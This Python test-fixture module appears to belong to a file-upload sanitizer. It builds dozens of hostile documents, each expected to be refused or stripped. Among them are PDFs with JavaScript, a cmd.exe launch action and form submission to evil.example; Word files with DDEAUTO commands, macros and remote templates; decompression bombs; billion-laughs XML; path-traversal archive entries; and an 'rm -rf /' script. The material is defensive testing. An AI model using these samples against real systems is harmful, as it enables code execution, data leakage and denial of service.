"""Hostile files, built anew each time: each is refused for its reason, or made harmless.

`REFUSED` maps a name to what makes the file and the code of the reason; `HARMLESS` to what makes
it and the bytes that must not be left in what is kept.
"""

import io
import struct
import tarfile
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.documents.factories import DOCX, ODT, XLSX, packed, pdf, picture

EVIL = b"<script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def changed_pdf(change, **saved) -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(out, **saved)
    return out.getvalue()


def action(kind: str, **more):
    def change(document):
        values = {f"/{name}": value for name, value in more.items()}
        document.Root.OpenAction = Dictionary({"/S": Name(kind), **values})

    return change


def script_by_name(document):
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def script_of_annotation(document):
    note = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 9, 9],
        AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("x"))),
    )
    document.pages[0].Annots = Array([note])


def attachment(document):
    document.attachments["evil.exe"] = b"MZ evil"


def annotation(subtype: str):
    def change(document):
        note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=[0, 0, 9, 9])
        document.pages[0].Annots = Array([document.make_indirect(note)])

    return change


def xfa(document):
    document.Root.AcroForm = Dictionary(XFA=Stream(document, EVIL), Fields=Array([]))


def many_pages(document):
    for _number in range(2001):
        document.add_blank_page()


def page_tree_in_a_circle() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"
    )


def deep_pdf() -> bytes:
    deep = b"[" * 200_000 + b"]" * 200_000
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + deep + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"
    )


def object_stream_bomb() -> bytes:
    packer, parts = zlib.compressobj(9), []
    for _number in range(2000):
        parts.append(packer.compress(bytes(1024 * 1024)))
    squeezed = b"".join([*parts, packer.flush()])
    return (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 5 0 R>>endobj\n"
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(squeezed)).encode()
        + b">>stream\n"
        + squeezed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R/Size 6>>\nstartxref\n0\n%%EOF"
    )


def chunk(kind: bytes, content: bytes) -> bytes:
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


def png(width: int, height: int, *chunks: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    squeezed = zlib.compress(bytes(200 * 1024 * 1024), 9)
    points = chunk(b"IDAT", zlib.compress(b"\0" * 4))
    return png(1, 1, chunk(b"zTXt", b"Comment\0\0" + squeezed), points)


def moving(form: str) -> bytes:
    out = io.BytesIO()
    more = [Image.new("RGB", (9, 9), "red")]
    Image.new("RGB", (9, 9)).save(out, form, save_all=True, append_images=more)
    return out.getvalue()


def photo(form: str = "JPEG", **saved) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "EvilMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 13.0, 0.0), 3: "E", 4: (4.0, 24.0, 0.0)})
    return picture(form, exif=exif.tobytes(), **saved)


def noted_png() -> bytes:
    notes = PngInfo()
    notes.add_text("Comment", EVIL.decode())
    notes.add_itxt("XML:com.adobe.xmp", "<x:evil GPSLatitude='51,13N'/>")
    return picture("PNG", pnginfo=notes, icc_profile=EVIL)


def relation(kind: str, target: str) -> str:
    return (
        f'<Relationships><Relationship Id="r1" Type="http://schemas.example/{kind}"'
        f' Target="{target}" TargetMode="External"/></Relationships>'
    )


def lying_bomb() -> bytes:
    """An entry that says it is short."""
    content = bytearray(packed(DOCX | {"word/long.bin": bytes(50 * 1024 * 1024)}))
    return bytes(content).replace(struct.pack("<I", 50 * 1024 * 1024), struct.pack("<I", 100))


def overlapping() -> bytes:
    """Two hundred entries that are all the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in DOCX.items():
            archive.writestr(name, content)
        archive.writestr("word/a.bin", bytes(1024 * 1024))
        last = archive.filelist[-1]
        for number in range(200):
            twin = zipfile.ZipInfo(f"word/{number}.bin")
            for name in ("CRC", "compress_size", "file_size", "header_offset", "compress_type"):
                setattr(twin, name, getattr(last, name))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return out.getvalue()


def with_password() -> bytes:
    content = bytearray(packed(DOCX))
    for start, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = content.find(start)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(start, at + 4)
    return bytes(content)


def doubled() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in DOCX.items():
            archive.writestr(name, content)
        archive.writestr("WORD/document.xml", EVIL)
    return out.getvalue()


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        entry = tarfile.TarInfo("../evil")
        entry.size = 4
        archive.addfile(entry, io.BytesIO(b"evil"))
    return out.getvalue()


LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
MAIL = (
    b"From: a@b.example\r\nTo: c@d.example\r\nMIME-Version: 1.0\r\n"
    b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
TEMPLATE = {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t")}
IMAGE = {"word/_rels/document.xml.rels": relation("image", "http://evil.example/i.png")}
DDE = {"word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>"}
DOCM = {"[Content_Types].xml": "<Types ContentType='application/x.macroEnabled.main+xml'/>"}
NEST = packed(XLSX | {"xl/embeddings/a.xlsx": packed(XLSX)})
EVENT = {"content.xml": '<script:event-listener script:language="ooo:script"/>'}
CLOSED = {"META-INF/manifest.xml": "<manifest:encryption-data/>"}

REFUSED = {
    "a PDF that runs a script when it opens": (
        lambda: changed_pdf(action("/JavaScript", JS=String("app.alert(1)"))),
        "pdf_script",
    ),
    "a PDF with a script by name": (lambda: changed_pdf(script_by_name), "pdf_script"),
    "a PDF with a script in an object stream": (
        lambda: changed_pdf(script_by_name, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf_script",
    ),
    "a PDF with a script under a link": (lambda: changed_pdf(script_of_annotation), "pdf_script"),
    "a PDF that starts a program": (
        lambda: changed_pdf(action("/Launch", F=String("cmd.exe"))),
        "pdf_script",
    ),
    "a PDF that sends a form": (
        lambda: changed_pdf(action("/SubmitForm", F=String("http://evil.example"))),
        "pdf_script",
    ),
    "a PDF that opens another file": (
        lambda: changed_pdf(action("/GoToR", F=String("evil.pdf"))),
        "pdf_file",
    ),
    "a PDF that opens a file in it": (lambda: changed_pdf(action("/GoToE")), "pdf_file"),
    "a PDF with an attachment": (lambda: changed_pdf(attachment), "pdf_file"),
    "a PDF with a pinned file": (lambda: changed_pdf(annotation("/FileAttachment")), "pdf_file"),
    "a PDF with a film": (lambda: changed_pdf(annotation("/RichMedia")), "pdf_file"),
    "a PDF with a form of its own language": (lambda: changed_pdf(xfa), "pdf_script"),
    "a PDF with a password": (
        lambda: changed_pdf(
            lambda _document: None, encryption=pikepdf.Encryption(owner="o", user="u")
        ),
        "pdf_password",
    ),
    "a PDF with a password of its owner": (
        lambda: changed_pdf(
            lambda _document: None, encryption=pikepdf.Encryption(owner="o", user="")
        ),
        "pdf_password",
    ),
    "a PDF that is an archive too": (lambda: pdf() + packed({"evil": "evil"}), "pdf_appended"),
    "a PDF with a page behind it": (lambda: pdf() + EVIL, "pdf_appended"),
    "half a PDF": (lambda: pdf()[:-200], "pdf_broken"),
    "a PDF of nothing": (lambda: b"%PDF-1.7\n" + bytes(500) + b"%%EOF", "pdf_broken"),
    "a PDF of too many pages": (lambda: changed_pdf(many_pages), "pdf_large"),
    "a PDF whose pages lead back": (page_tree_in_a_circle, "pdf_broken"),
    "a PDF without a bottom": (deep_pdf, None),
    "a PDF that unpacks to two gigabytes": (object_stream_bomb, None),
    "a PDF behind a page": (lambda: b"<html>" + pdf(), None),
    "a picture of a thousand million points": (
        lambda: png(40_000, 40_000, chunk(b"IDAT", zlib.compress(b"\0" * 100))),
        "picture_large",
    ),
    "a picture with a note that unpacks to 200 MB": (text_bomb, "picture_broken"),
    "half a picture": (lambda: picture("PNG")[:60], "picture_broken"),
    "a picture that only begins": (lambda: b"\xff\xd8\xff\xe0" + bytes(50), "picture_broken"),
    "a moving WebP": (lambda: moving("WEBP"), "picture_moves"),
    "a moving PNG": (lambda: moving("PNG"), "picture_moves"),
    "a GIF": (lambda: picture("GIF"), "picture_kind"),
    "a BMP": (lambda: picture("BMP"), "picture_kind"),
    "a TIFF": (lambda: picture("TIFF"), "picture_kind"),
    "a HEIC": (lambda: b"\0\0\0\x18ftypheic" + bytes(40), "heic"),
    "a film": (lambda: b"\0\0\0\x18ftypmp42" + bytes(40), "unknown"),
    "a drawing with a script": (SVG.encode, "markup"),
    "a drawing in two bytes a letter": (lambda: SVG.encode("utf-16"), "markup"),
    "a page": (lambda: b"<!DOCTYPE html><p>evil", "markup"),
    "a page behind blanks": (lambda: b"\xef\xbb\xbf \n\n  <HTML><p>evil", "markup"),
    "a page in a text": (lambda: b"Dear all,\n" + EVIL, "markup"),
    "a page of PHP": (lambda: b"<?php system('evil');", "markup"),
    "a mail with a file": (lambda: MAIL, "markup"),
    "a Word file with macros": (
        lambda: packed(DOCX | {"word/vbaProject.bin": OLE}),
        "macros",
    ),
    "a Word file of the kind with macros": (lambda: packed(DOCX | DOCM), "macros"),
    "an Excel file with a macro sheet": (
        lambda: packed(XLSX | {"xl/macrosheets/sheet1.xml": "<x/>"}),
        "macros",
    ),
    "a Word file with ActiveX": (
        lambda: packed(DOCX | {"word/activeX/activeX1.xml": "<x/>"}),
        "macros",
    ),
    "a Word file with an object": (
        lambda: packed(DOCX | {"word/embeddings/oleObject1.bin": OLE}),
        "macros",
    ),
    "a Word file that runs a command": (lambda: packed(DOCX | DDE), "macros"),
    "a Word file that fetches a template": (lambda: packed(DOCX | TEMPLATE), "outside"),
    "a Word file that fetches a picture": (lambda: packed(DOCX | IMAGE), "outside"),
    "a Word file with a long entry": (
        lambda: packed(DOCX | {"word/long.bin": bytes(210 * 1024 * 1024)}),
        "bomb",
    ),
    "a Word file with an entry that lies": (lying_bomb, None),
    "a Word file of overlapping entries": (overlapping, None),
    "a Word file of three thousand entries": (
        lambda: packed(DOCX | {f"word/{number}.xml": "" for number in range(3000)}),
        "bomb",
    ),
    "a Word file in a file in a file": (
        lambda: packed(DOCX | {"word/embeddings/a.xlsx": NEST}),
        "nested",
    ),
    "a Word file with a program": (
        lambda: packed(DOCX | {"word/media/image1.png": b"MZ evil"}),
        "nested",
    ),
    "a Word file that grows when read": (
        lambda: packed(DOCX | {"word/document.xml": LAUGHS}),
        "office_broken",
    ),
    "a Word file that climbs out": (
        lambda: packed(DOCX | {"../../evil.xml": "evil"}),
        "office_broken",
    ),
    "a Word file with an entry twice": (doubled, "office_broken"),
    "a Word file behind something": (lambda: b"PK\x03\x04" + bytes(99) + packed(DOCX), None),
    "a Word file with a password": (with_password, "office_password"),
    "a Word file of the older kind": (lambda: OLE, "old_office"),
    "a text with marks": (lambda: b"{\\rtf1 evil}", "old_office"),
    "a text document with macros": (
        lambda: packed(ODT | {"Basic/Standard/Module1.xml": "<x/>"}),
        "macros",
    ),
    "a text document that acts": (lambda: packed(ODT | EVENT), "macros"),
    "a text document with a password": (lambda: packed(ODT | CLOSED), "office_password"),
    "an archive": (lambda: packed({"evil.exe": b"MZ"}), "archive"),
    "an archive of Java": (lambda: packed({"META-INF/MANIFEST.MF": "x"}), "archive"),
    "a RAR archive": (lambda: b"Rar!\x1a\x07\0" + bytes(50), "archive"),
    "a 7z archive": (lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), "archive"),
    "a gzip archive": (lambda: b"\x1f\x8b\x08" + bytes(50), "archive"),
    "a tar archive": (tar, "archive"),
    "a program of Windows": (lambda: b"MZ" + bytes(100), "program"),
    "a program of Linux": (lambda: b"\x7fELF" + bytes(100), "program"),
    "a program for a shell": (lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0\n", "unknown"),
    "bytes": (lambda: bytes(range(256)) * 4, "unknown"),
    "a text that steers a terminal": (lambda: b"\x1b]0;evil\x07", "unknown"),
    "a text of six megabytes": (lambda: b"evil \n" * 1_100_000, "text_long"),
    "nothing": (lambda: b"", "empty"),
}

HARMLESS = {
    "a photo with its position": (photo, (b"EvilMaker", b"Exif")),
    "a WebP with its position": (lambda: photo("WEBP"), (b"EvilMaker", b"EXIF")),
    "a PNG with its position": (lambda: photo("PNG"), (b"EvilMaker", b"eXIf")),
    "a photo with a comment": (lambda: picture(comment=EVIL), (EVIL,)),
    "a photo with XMP": (lambda: picture(xmp=b"<x:evil GPSLatitude='51'/>"), (b"evil",)),
    "a photo with a color profile": (lambda: picture(icc_profile=EVIL), (EVIL,)),
    "a photo that is an archive too": (
        lambda: picture() + packed({"evil": "evil"}),
        (b"PK\x03\x04", b"PK\x05\x06"),
    ),
    "a photo that is a page too": (lambda: picture() + EVIL, (EVIL,)),
    "a PNG with notes": (noted_png, (EVIL, b"GPSLatitude", b"iTXt", b"tEXt")),
    "a PNG that is a PDF too": (lambda: picture("PNG") + pdf(), (b"%PDF",)),
}
